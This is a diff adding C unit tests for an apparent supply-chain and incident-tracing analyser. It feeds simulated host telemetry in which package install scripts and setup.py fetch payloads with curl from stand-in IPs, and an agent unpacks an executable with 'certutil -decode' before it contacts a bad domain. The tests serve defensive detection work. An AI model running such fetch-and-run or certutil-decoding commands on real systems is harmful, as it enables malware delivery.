@@ -560,6 +560,259 @@ static void a_session_is_nothing_that_could_lie_on_a_host(void **state)
 	end(&f);
 }
 
+#define POSTINST(at, name) at " process_start {d}/usr/bin/dpkg#1 > {p}/usr/bin/dash#2 | command_line=/bin/sh /var/lib/dpkg/info/" name ".postinst configure"
+#define ELSEWHERE "22 process_start {p}/usr/bin/dash#2 > /usr/bin/curl#3 | command_line=curl -s http://203.0.113.8/i"
+
+static void a_package_is_what_its_manager_runs_for_it(void **state)
+{
+	static const struct stage_wanted w = { .kind = ORIGIN_PACKAGE, .product = SLICE("tool"), .version = SLICE("2.0") };
+	struct fixture f;
+
+	(void)state;
+	start(&f, &w, "A B");
+	RUN_HOSTS(&f,
+		  HOST("A", "10 process_start systemd#1 > {o}/opt/tool/bin/tool#4", "11 network_connect {o}/opt/tool/bin/tool#4 > 203.0.113.1",
+		       "5000 package - > tool | version=2.0 | action=upgrade", POSTINST("5001", "tool:amd64"),
+		       "5002 process_start {p}/usr/bin/dash#2 > {c}/usr/bin/curl#3 | command_line=curl -s http://203.0.113.7/i",
+		       "5003 network_connect {c}/usr/bin/curl#3 > 203.0.113.7",
+		       "5010 process_start systemd#1 > {n}/opt/tool/bin/tool#5", "5011 network_connect {n}/opt/tool/bin/tool#5 > 203.0.113.1"),
+		  HOST("OTHER PACKAGE", POSTINST("20", "gadget"), ELSEWHERE),
+		  HOST("OTHER VERSION", "19 package - > tool | version=1.0 | action=install", POSTINST("20", "tool"), ELSEWHERE));
+	assert_shown(&f, 0, "S2 S3 S4");
+	assert_int_equal(f.got.list[0].proofs[STAGE_S3].first_ns, TOLD_SECONDS(5001));
+	assert_int_equal(f.got.list[0].proofs[STAGE_S4].first_ns, TOLD_SECONDS(5002));
+	assert_shown(&f, 1, "");
+	assert_shown(&f, 2, "");
+	end(&f);
+}
+
+static void a_registry_package_runs_in_its_folder(void **state)
+{
+	static const struct stage_wanted w = { .kind = ORIGIN_PACKAGE, .product = SLICE("api-bridge"), .ecosystem = SLICE("pypi") };
+	struct fixture f;
+
+	(void)state;
+	start(&f, &w, "A");
+	RUN_HOSTS(&f,
+		  HOST("A", "10 file_create {i}C:\\Python\\python.exe#1 > C:\\w\\site-packages\\api_bridge\\setup.py",
+		       "11 process_start {i}C:\\Python\\python.exe#1 > {p}C:\\Python\\python.exe#2 | command_line=python setup.py install | "
+		       "directory=C:\\w\\site-packages\\api_bridge\\",
+		       "12 process_start {p}C:\\Python\\python.exe#2 > {c}C:\\Windows\\System32\\curl.exe#3 | command_line=curl https://" BAD "/i"),
+		  HOST("B", "11 process_start - > {p}C:\\Python\\python.exe#2 | command_line=python setup.py install | "
+			    "directory=C:\\w\\site-packages\\bridge\\",
+		       "12 process_start {p}C:\\Python\\python.exe#2 > C:\\Windows\\System32\\curl.exe#3 | command_line=curl https://" GOOD "/i"));
+	assert_shown(&f, 0, "S1 S3 S4");
+	assert_shown(&f, 1, "");
+	end(&f);
+}
+
+static void a_registry_package_is_asked_for_by_name(void **state)
+{
+#define PIP(args) "10 process_start C:\\Windows\\explorer.exe#9 > {i}C:\\Python\\python.exe#1 | command_line=python -m pip " args
+#define SETUP "11 process_start {i}C:\\Python\\python.exe#1 > C:\\Python\\python.exe#2 | command_line=python setup.py"
+	static const struct stage_wanted w = { .kind = ORIGIN_PACKAGE, .product = SLICE("api-bridge"), .ecosystem = SLICE("pypi") };
+	struct fixture f;
+
+	(void)state;
+	start(&f, &w, "Z");
+	RUN_HOSTS(&f, HOST("A", PIP("install api_bridge==1.0"), SETUP), HOST("OTHER", PIP("install bridge==1.0"), SETUP),
+		  HOST("SHOWN", PIP("show api-bridge"), SETUP), HOST("LONGER", PIP("install api-bridge-tools"), SETUP));
+	assert_shown(&f, 0, "S0 S3");
+	for (size_t i = 1; i < 4; i++)
+		assert_shown(&f, i, "");
+	end(&f);
+}
+
+#define CRT "C:\\Windows\\Temp\\x.crt"
+#define DECODED "C:\\Windows\\Temp\\x.exe"
+#define AGENT "C:\\Windows\\CCM\\CcmExec.exe"
+#define COMMANDS "C:\\Windows\\System32\\cmd.exe"
+#define UNPACK(from, to) "11 process_start {a}" AGENT "#1 > {s}" COMMANDS "#2 | command_line=cmd.exe /c certutil -decode " from " " to
+
+static void what_an_agent_dropped_is_also_what_was_unpacked_from_it(void **state)
+{
+	static const struct stage_wanted w = { .kind = ORIGIN_DEPLOYMENT, .path = SLICE(CRT) };
+	struct fixture f;
+
+	(void)state;
+	start(&f, &w, "A");
+	RUN_HOSTS(&f,
+		  HOST("A", "10 file_create {a}" AGENT "#1 > " CRT, UNPACK(CRT, DECODED), "12 file_create {s}" COMMANDS "#2 > " DECODED,
+		       "13 process_start {s}" COMMANDS "#2 > {x}" DECODED "#3 | sha256=dd", "20 dns_query {x}" DECODED "#3 > " BAD,
+		       "21 file_create {x}" DECODED "#3 > C:\\Windows\\Temp\\more.dll",
+		       "22 image_load {x}" DECODED "#3 > C:\\Windows\\Temp\\more.dll"),
+		  HOST("QUIET", UNPACK(CRT, DECODED), "13 process_start {s}" COMMANDS "#2 > {x}" DECODED "#3", "20 dns_query {x}" DECODED "#3 > " BAD),
+		  HOST("OTHER FILE", UNPACK("C:\\Windows\\Temp\\y.crt", "C:\\Windows\\Temp\\y.exe")));
+	assert_shown(&f, 0, "S1 S3 S4 S6");
+	assert_int_equal(f.got.list[0].proofs[STAGE_S6].count, 1); /* the library, and not the program */
+	assert_shown(&f, 1, "S3 S4");
+	assert_shown(&f, 2, "");
+	end(&f);
+}
+
+#define UP "C:\\Program Files\\App\\up.exe"
+#define FETCHES(at, url) at " process_start C:\\Windows\\explorer.exe#1 > " UP "#7 | command_line=up.exe --from " url
+#define STARTS(at) at " process_start C:\\Windows\\explorer.exe#1 > " APP "#8"
+
+static void an_updater_tells_which_version_came(void **state)
+{
+	struct fixture f;
+
+	(void)state;
+	start(&f, &release, "A");
+	stage_wanted_content(&f.known, slice_str("App"), slice_str("3.0"), slice_str("Maker"), "windows", slice_str("cc"));
+	RUN_HOSTS(&f,
+		  HOST("A", "10 process_start explorer.exe#1 > {a}" APP "#2" OWN),
+		  HOST("OWN", FETCHES("50", "https://get.example/2.0"), STARTS("60")),
+		  HOST("OWN BY NUMBER", FETCHES("50", "https://mirror.example/app-2.0.zip"), STARTS("60")),
+		  HOST("ONLY ASKED", STARTS("40"), FETCHES("50", "https://get.example/2.0")),
+		  HOST("NEXT", FETCHES("50", "https://get.example/3.0"), STARTS("60")),
+		  HOST("LONGER", FETCHES("50", "https://mirror.example/12.0.1"), STARTS("60")));
+	assert_shown(&f, 1, "S0 S3");
+	assert_int_equal(f.got.list[1].proofs[STAGE_S3].first_ns, TOLD_SECONDS(60)); /* who fetched it is not it */
+	assert_shown(&f, 2, "S0 S3");
+	assert_shown(&f, 3, "S0");
+	assert_shown(&f, 4, "");
+	assert_shown(&f, 5, "");
+	end(&f);
+}
+
+static void of_whatever_version_says_nothing_of_others(void **state)
+{
+	struct fixture f;
+
+	(void)state;
+	start(&f, &release, "A");
+	RUN_HOSTS(&f,
+		  HOST("A", "10 process_start explorer.exe#1 > {a}" APP "#2" OWN, CALL("20", "a", BAD), CALL("21", "a", GOOD)),
+		  HOST("OLD", "10 process_start explorer.exe#1 > {a}" APP "#2" OLD, CALL("20", "a", GOOD)),
+		  HOST("UNTOLD", "9 process_start C:\\Windows\\explorer.exe#1 > {a}" APP "#2", CALL("20", "a", BAD)));
+	assert_shown(&f, 0, "S3 S4");
+	assert_int_equal(f.got.list[0].proofs[STAGE_S4].count, 1);
+	end(&f);
+}
+
+static void a_later_version_may_keep_what_it_brought(void **state)
+{
+#define LATER " | product=App | version=3.0 | company=Maker | sha256=cc"
+	struct fixture f;
+
+	(void)state;
+	start(&f, &release, "A");
+	RUN_HOSTS(&f,
+		  HOST("A", "10 process_start explorer.exe#1 > {a}" APP "#2" OWN, CALL("20", "a", BAD), CALL("21", "a", GOOD)),
+		  HOST("LATER", "10 process_start explorer.exe#1 > {a}" APP "#2" LATER, CALL("20", "a", BAD), CALL("21", "a", GOOD)),
+		  HOST("OLD", "10 process_start explorer.exe#1 > {a}" APP "#2" OLD, CALL("21", "a", GOOD)));
+	assert_shown(&f, 0, "S3 S4");
+	assert_int_equal(f.got.list[0].proofs[STAGE_S4].count, 1);
+	assert_shown(&f, 1, "");
+	end(&f);
+}
+
+static void an_alert_leads_to_the_program_that_did_it(void **state)
+{
+	static const struct stage_place_key shell = { 1, 2, 100 }, itself = { 1, 1, 0 };
+	struct fixture f;
+
+	(void)state;
+	for (int i = 0; i < 2; i++) {
+		start(&f, &release, "A");
+		stage_wanted_alert(&f.known, i ? &itself : &shell);
+		RUN_HOSTS(&f, HOST("A", "9 process_start C:\\Windows\\explorer.exe#1 > {a}" APP "#2",
+				   "10 !process_start {a}" APP "#2 > {s}" COMMANDS "#3 | command_line=cmd.exe"));
+		assert_shown(&f, 0, i ? "" : "S3 S7"); /* that it was started is no deed */
+		end(&f);
+	}
+}
+
+static void a_contact_that_only_it_makes_tells_which_version(void **state)
+{
+	struct fixture f;
+
+	(void)state;
+	start(&f, &release, "A");
+	RUN_HOSTS(&f,
+		  HOST("A", "10 process_start explorer.exe#1 > {a}" APP "#2" OWN, CALL("20", "a", BAD), CALL("21", "a", GOOD)),
+		  HOST("OLD", "10 process_start explorer.exe#1 > {a}" APP "#2" OLD, CALL("20", "a", GOOD)),
+		  HOST("UNTOLD", "9 process_start C:\\Windows\\explorer.exe#1 > {a}" APP "#2",
+		       "10 process_start {a}" APP "#2 > {s}" COMMANDS "#3 | command_line=cmd.exe", "11 dns_query {s}" COMMANDS "#3 > " BAD),
+		  HOST("QUIET", "9 process_start C:\\Windows\\explorer.exe#1 > {a}" APP "#2",
+		       "10 process_start {a}" APP "#2 > {s}" COMMANDS "#3 | command_line=cmd.exe", "11 dns_query {s}" COMMANDS "#3 > " GOOD));
+	assert_shown(&f, 2, "S3 S4 S7");
+	assert_int_equal(f.got.list[2].unclear.n, 0);
+	assert_shown(&f, 3, "");
+	assert_int_equal(f.got.list[3].unclear.n, 1);
+	end(&f);
+}
+
+static void what_a_host_records_is_told_by_its_activities(void **state)
+{
+	struct fixture f;
+	unsigned kinds = 0;
+
+	(void)state;
+	start(&f, &release, "A");
+	RUN_HOSTS(&f, HOST("A", "10 process_start explorer.exe#1 > {a}" APP "#2" OWN, CALL("20", "a", BAD), "900 logon - > x"));
+	for (size_t i = 0; i < f.got.list[0].source_count; i++) {
+		kinds |= 1u << f.got.list[0].sources[i].record;
+		assert_int_equal(f.got.list[0].sources[i].completeness, COMPLETENESS_UNKNOWN);
+		assert_int_equal(f.got.list[0].sources[i].last_ns, TOLD_SECONDS(900)); /* the file goes on */
+	}
+	assert_int_equal(kinds, 1u << RECORDS_RUNS | 1u << RECORDS_CONTACTS);
+	end(&f);
+}
+
+static void a_mac_is_known_by_all_its_paths(void **state)
+{
+	static const struct stage_wanted w = { .kind = ORIGIN_RELEASE, .product = SLICE("App"), .version = SLICE("2.0"),
+					       .os = SLICE("macos"), .path = SLICE("/Applications/App.app/app") };
+	struct fixture f;
+
+	(void)state;
+	start(&f, &w, "Z");
+	RUN_HOSTS(&f, HOST("A", "1 process_start - > /usr/libexec/xpcproxy#1", "5 package - > App | version=2.0 | action=installed",
+			   "9 process_start - > /Applications/App.app/app#2"));
+	assert_string_equal(f.got.list[0].os, "macos");
+	assert_shown(&f, 0, "S2 S3");
+	end(&f);
+}
+
+static void a_list_says_since_when_programs_and_modules_are_of_its_version(void **state)
+{
+	struct fixture f;
+
+	(void)state;
+	start(&f, &release, "A");
+	RUN_HOSTS(&f,
+		  HOST("A", "10 process_start explorer.exe#1 > {a}" APP "#2" OWN, "11 image_load {a}" APP "#2 > " LIB " | sha256=dd"),
+		  HOST("LATER", "500 inventory - > App | version=2.0 | company=Maker", "900 process_start - > " APP,
+		       "900 image_load " APP " > " LIB),
+		  HOST("BEFORE", "5000 inventory - > App | version=2.0 | company=Maker", "900 process_start - > " APP,
+		       "900 image_load " APP " > " LIB),
+		  HOST("OTHER", "500 inventory - > App | version=1.0 | company=Maker", "900 process_start - > " APP,
+		       "900 image_load " APP " > " LIB),
+		  HOST("BOTH", "500 inventory - > App | version=2.0 | company=Maker", "800 inventory - > App | version=1.0 | company=Maker",
+		       "900 process_start - > " APP),
+		  HOST("STRANGER", "500 inventory - > App | version=2.0 | company=Maker", "900 process_start - > C:\\t\\host.exe",
+		       "900 image_load C:\\t\\host.exe > " LIB),
+		  HOST("ITS CONTENT", "500 inventory - > App | version=2.0 | company=Maker", "900 process_start - > C:\\t\\host.exe",
+		       "900 image_load C:\\t\\host.exe > " LIB " | sha256=ee"),
+		  HOST("FILE", "- file_present - > " APP));
+	assert_shown(&f, 1, "S2 S3");
+	assert_int_equal(f.got.list[1].proofs[STAGE_S3].n, 2);
+	assert_false(f.got.list[1].installed); /* it may have been there before its entry was written */
+	assert_shown(&f, 2, "S2");
+	assert_int_equal(f.got.list[2].unclear.n, 1);
+	assert_shown(&f, 3, "");
+	assert_shown(&f, 4, "S2");
+	assert_int_equal(f.got.list[4].unclear.n, 1);
+	assert_shown(&f, 5, "S2 S3");
+	assert_shown(&f, 6, "S2");
+	assert_shown(&f, 7, "");
+	assert_int_equal(f.got.list[7].lies.n, 1);
+	end(&f);
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
@@ -583,8 +836,20 @@ int main(void)
 		cmocka_unit_test(inventories_show_what_is_there),
 		cmocka_unit_test(a_host_with_any_of_a_tie_is_told),
 		cmocka_unit_test(a_language_package_is_its_folder_in_its_version),
+		cmocka_unit_test(a_package_is_what_its_manager_runs_for_it),
+		cmocka_unit_test(a_registry_package_runs_in_its_folder),
+		cmocka_unit_test(a_registry_package_is_asked_for_by_name),
+		cmocka_unit_test(what_an_agent_dropped_is_also_what_was_unpacked_from_it),
+		cmocka_unit_test(an_updater_tells_which_version_came),
+		cmocka_unit_test(of_whatever_version_says_nothing_of_others),
+		cmocka_unit_test(a_later_version_may_keep_what_it_brought),
+		cmocka_unit_test(an_alert_leads_to_the_program_that_did_it),
+		cmocka_unit_test(a_contact_that_only_it_makes_tells_which_version),
+		cmocka_unit_test(what_a_host_records_is_told_by_its_activities),
+		cmocka_unit_test(a_mac_is_known_by_all_its_paths),
 		cmocka_unit_test(files_that_go_by_the_hundred),
 		cmocka_unit_test(a_session_is_nothing_that_could_lie_on_a_host),
+		cmocka_unit_test(a_list_says_since_when_programs_and_modules_are_of_its_version),
 	};
 
 	return RUN(tests);
